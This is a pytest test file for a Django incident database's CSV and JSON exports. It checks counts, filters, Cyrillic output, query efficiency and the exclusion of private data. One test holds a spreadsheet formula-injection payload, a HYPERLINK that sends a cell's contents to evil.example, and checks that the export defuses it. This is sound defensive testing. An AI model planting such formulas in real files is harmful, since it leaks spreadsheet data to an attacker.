"""CSV and JSON exports: the list page's incidents, counted alike, streamed, safe to open."""

import datetime
import json
import urllib.parse

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from incidents.exports import incidents as exports
from incidents.models import Incident
from tests.shared_data import shared_data

from .barometer import (
    COMBINATIONS,
    CSV,
    HIDDEN_TITLE,
    JSON,
    LIST,
    build_dataset,
    csv_export,
    filter_params,
    json_export,
    list_count,
    make,
    read_csv,
)
from .factories import IncidentFactory, TranslationFactory
from .pages import parse

pytestmark = pytest.mark.django_db


@shared_data
def dataset():
    build_dataset()


def assert_same_count(client, params, prefix=""):
    expected = list_count(client, params, prefix)
    metadata, _, rows = csv_export(client, params, prefix)
    document = json_export(client, params, prefix)
    assert int(metadata["count"]) == len(rows) == expected
    assert document["count"] == len(document["incidents"]) == expected
    assert [row["id"] for row in rows] == [str(item["id"]) for item in document["incidents"]]
    assert not any(row["title"].startswith(HIDDEN_TITLE) for row in rows)
    return rows, document


@pytest.mark.parametrize("params", COMBINATIONS, ids=lambda p: urllib.parse.urlencode(p) or "all")
def test_exports_count_what_the_list_counts(client, dataset, params):
    rows, _ = assert_same_count(client, params)
    if not params or params == {"region": "kyiv", "page": "2"}:
        assert rows, "the combination finds something"


@pytest.mark.parametrize("params", [{}, {"q": "zebra"}, {"region": "abroad"}])
def test_english_exports_count_what_the_english_list_counts(client, dataset, params):
    rows, document = assert_same_count(client, params, prefix="/en")
    titles = {row["title"] for row in rows}
    if params == {"q": "zebra"}:
        # The English version of story 0 is found in English; its Ukrainian original is not.
        assert "Case 0 zebra english" in titles
    if not params:
        assert "Case 0 zebra english" in titles
        assert "Case 0 plain" not in titles
        assert all(row["url"].startswith("http://testserver/en/incidents/") for row in rows)


def test_invalid_values_are_left_out_as_on_the_list(client, dataset):
    params = {"year": "1800", "region": "kyiv", "month": "13"}
    rows, document = assert_same_count(client, params)
    assert rows
    assert document["filters"] == {"region": "kyiv"}
    metadata, _, _ = csv_export(client, params)
    assert metadata["filters"] == "region=kyiv"


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(params=filter_params)
def test_random_filters_count_alike_in_list_and_exports(client, dataset, params):
    assert_same_count(client, params)


def test_no_unpublished_incident_is_ever_exported(client, db):
    public = IncidentFactory(title="Public one")
    IncidentFactory(title="Draft one", draft=True)
    IncidentFactory(title="Archived one", archived=True)
    IncidentFactory(title="Scheduled one", scheduled=True)
    _, _, rows = csv_export(client, {})
    document = json_export(client, {})
    assert [row["title"] for row in rows] == ["Public one"]
    assert [item["id"] for item in document["incidents"]] == [public.pk]


def test_csv_layout_metadata_and_cyrillic(client, db, kyiv, beating, threats):
    incident = IncidentFactory(
        title="Журналістку «Громадського» побили в Києві",
        lead="Невідомі напали на знімальну групу; ім'я не розголошується.",
        categories=[beating, threats],
        region=kyiv,
        perpetrator_type="unknown",
        occurred_on=datetime.date(2024, 5, 1),
        occurred_precision="month",
    )
    response = client.get(CSV, {"region": "kyiv", "year": "2024", "page": "3", "utm": "x"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="incidents-')
    assert disposition.endswith('.csv"')
    metadata, header, rows = read_csv(response)
    assert list(metadata) == [
        "IMI Portal incidents export",
        "generated_at",
        "filters",
        "count",
        "counting_rule",
    ]
    generated = datetime.datetime.fromisoformat(metadata["generated_at"])
    assert generated.utcoffset() in (datetime.timedelta(hours=2), datetime.timedelta(hours=3))
    assert metadata["filters"] == "region=kyiv&year=2024"
    assert metadata["count"] == "1"
    assert "most severe category" in metadata["counting_rule"]
    assert header == exports.FIELDS
    [row] = rows
    assert row == {
        "id": str(incident.pk),
        "url": f"http://testserver/incidents/{incident.slug}/",
        "title": "Журналістку «Громадського» побили в Києві",
        "language": "uk",
        "published_at": row["published_at"],
        "occurred_on": "2024-05-01",
        "occurred_until": "2024-05-31",
        "date_precision": "month",
        "categories": "beating|threats",
        "category_groups": "physical-aggression",
        "counted_under": "beating",  # the more severe of the two
        "is_attempt": "false",
        "region": "kyiv",
        "region_name": "Київ",
        "country": "",
        "perpetrator_type": "unknown",
        "perpetrator_categories": "",
        "motive": "unconfirmed",
        "verification": "reported",
        "case_status": "none",
        "impunity": "",
        "last_update_on": "",
        "lead": "Невідомі напали на знімальну групу; ім'я не розголошується.",
    }
    assert datetime.datetime.fromisoformat(row["published_at"]) == incident.published_at
    # In English (with the Ukrainian articles: languages=all), the region is named in English.
    _, _, [english] = csv_export(client, {"region": "kyiv", "languages": "all"}, prefix="/en")
    assert english["region_name"] == "Kyiv"
    assert english["url"] == f"http://testserver/en/incidents/{incident.slug}/"


def test_unfiltered_export_says_none(client, db):
    IncidentFactory()
    metadata, _, _ = csv_export(client, {"page": "2"})
    assert metadata["filters"] == "none"
    assert json_export(client, {})["filters"] == {}


def test_json_layout(client, db, kyiv, beating, censorship):
    incident = IncidentFactory(
        title="Цензура в Києві",
        categories=[beating, censorship],
        region=kyiv,
        occurred_on=datetime.date(2023, 2, 3),
    )
    response = client.get(JSON, {"category": "censorship"})
    assert response["Content-Disposition"].endswith('.json"')
    raw = b"".join(response.streaming_content)
    assert "Цензура в Києві".encode() in raw  # readable UTF-8, not \u escapes
    document = json.loads(raw)
    assert list(document) == ["generated_at", "filters", "count", "counting_rule", "incidents"]
    assert "most severe category" in document["counting_rule"]
    assert document["filters"] == {"category": "censorship"}
    assert document["count"] == 1
    [item] = document["incidents"]
    assert list(item) == exports.FIELDS
    assert item["id"] == incident.pk
    assert item["categories"] == ["beating", "censorship"]
    assert item["category_groups"] == ["physical-aggression", "censorship-access"]
    assert item["occurred_on"] == "2023-02-03"
    assert item["occurred_until"] == "2023-02-03"
    assert item["date_precision"] == "day"
    assert item["region_name"] == "Київ"


def test_empty_exports_are_well_formed(client, db):
    metadata, header, rows = csv_export(client, {"q": "nothing-like-this"})
    assert metadata["count"] == "0"
    assert header == exports.FIELDS
    assert rows == []
    assert json_export(client, {"q": "nothing-like-this"})["incidents"] == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_formula_injection_is_defused(client, db, start):
    IncidentFactory(
        title=f'{start}HYPERLINK("https://evil.example/?x="&A1,"click")',
        lead=f"{start}1+2",
        country="",
    )
    _, _, [row] = csv_export(client, {})
    assert row["title"] == f'\'{start}HYPERLINK("https://evil.example/?x="&A1,"click")'
    assert row["lead"] == f"'{start}1+2"
    # JSON is data, not a spreadsheet: it keeps the text as written.
    [item] = json_export(client, {})["incidents"]
    assert item["title"].startswith(start)


def test_a_translation_is_one_row(client, db):
    TranslationFactory(title="In English")
    _, _, rows = csv_export(client, {})
    assert len(rows) == 1
    _, _, english_rows = csv_export(client, {}, prefix="/en")
    assert [row["title"] for row in english_rows] == ["In English"]


def consume_counting_queries(client, url, params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        assert response.streaming
        body = b"".join(response.streaming_content)
    return len(queries), body


@pytest.mark.parametrize("url", [CSV, JSON])
def test_query_count_does_not_grow_with_the_incidents(client, db, url, monkeypatch):
    make_few = 5
    params = {"region": "kyiv", "category": "beating"}
    for n in range(make_few):
        make(f"Few {n}", ["beating", "threats"], "kyiv", "police", datetime.date(2024, 1, 1))
    few, _ = consume_counting_queries(client, url, params)
    for n in range(45):
        make(f"More {n}", ["beating"], "kyiv", "police", datetime.date(2024, 1, 1))
    many, body = consume_counting_queries(client, url, params)
    assert body.count(b"More ") >= 45
    assert many == few
    # Chunks of ten: three more queries (its categories, perpetrators and criminal cases) per
    # extra chunk, never one per row. On PostgreSQL the CSV is one COPY, not chunks
    # (exports/pgcopy.py; its own tests in test_export_copy.py).
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    chunked, _ = consume_counting_queries(client, url, params)
    copied = url == CSV and connection.vendor == "postgresql"
    assert chunked == few + (0 if copied else 4 * 3)


def test_export_reads_the_database_with_an_iterator(client, db, monkeypatch):
    """The rows come from QuerySet.iterator(), so a large export never sits in memory (on
    PostgreSQL the CSV is streamed by COPY instead, exports/pgcopy.py: the JSON still is)."""
    calls = []
    original = type(Incident.objects.all()).iterator

    def spy(self, chunk_size=None):
        calls.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    IncidentFactory()
    monkeypatch.setattr(type(Incident.objects.all()), "iterator", spy)
    csv_export(client, {})
    assert calls == ([] if connection.vendor == "postgresql" else [exports.CHUNK_SIZE])
    json_export(client, {})
    assert calls[-1:] == [exports.CHUNK_SIZE]


def test_list_page_links_to_the_exports_with_its_filters(client, dataset):
    response = client.get(LIST, {"region": "lviv", "page": "2", "q": "zebra"})
    links = [
        urllib.parse.urlsplit(a.attrs["href"])
        for a in parse(response).by_id("exports").find_all("a")
    ]
    by_path = {link.path: link for link in links}
    assert {CSV, JSON, "/api/docs/"} <= set(by_path)
    for path in (CSV, JSON):
        assert urllib.parse.parse_qs(by_path[path].query) == {"region": ["lviv"], "q": ["zebra"]}
    # Following the link exports what the page counted.
    _, _, rows = read_csv(client.get(urllib.parse.urlunsplit(by_path[CSV])))
    assert len(rows) == list_count(client, {"region": "lviv", "q": "zebra"}) == 2


def test_english_list_links_to_english_exports(client, dataset):
    response = client.get("/en" + LIST, {"region": "lviv"})
    links = [a.attrs["href"] for a in parse(response).by_id("exports").find_all("a")]
    assert "/en/incidents/export.csv?region=lviv" in links


def test_exports_answer_only_get(client, db):
    assert client.post(CSV).status_code == 405
    assert client.post(JSON).status_code == 405


def test_exports_hold_no_private_data(client, db):
    from .factories import VictimFactory

    incident = IncidentFactory(perpetrator_detail="Officer Secretname")
    VictimFactory(incident=incident, name="Victim Privatename", is_anonymous=True)
    _, header, [row] = csv_export(client, {})
    document = json_export(client, {})
    for text in (json.dumps(document), ",".join(row.values())):
        assert "Privatename" not in text
        assert "Secretname" not in text
    assert not {"author", "victims", "perpetrator_detail", "body"} & set(header)


@settings(
    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(min_size=1, max_size=40).filter(lambda s: s.strip() and "\x00" not in s))
def test_any_title_survives_a_csv_round_trip(client, db, text):
    Incident.objects.all().delete()
    IncidentFactory(title=text)
    _, _, [row] = csv_export(client, {})
    # The csv module writes a lone "\r" inside quotes; reading it back keeps it. A title
    # that would open as a formula comes back as text (incidents.exports.csvfile, defusedcsv).
    title = row["title"]
    if title != text:
        assert text[:1] in "=+-@|%\t\r" and title.startswith("'")
        assert title[1:].replace("\\|", "|") == text


def test_robots_keep_crawlers_off_exports_and_api(client):
    lines = client.get("/robots.txt").content.decode().splitlines()
    for path in ("/incidents/export.", "/en/incidents/export.", "/api/"):
        assert f"Disallow: {path}" in lines
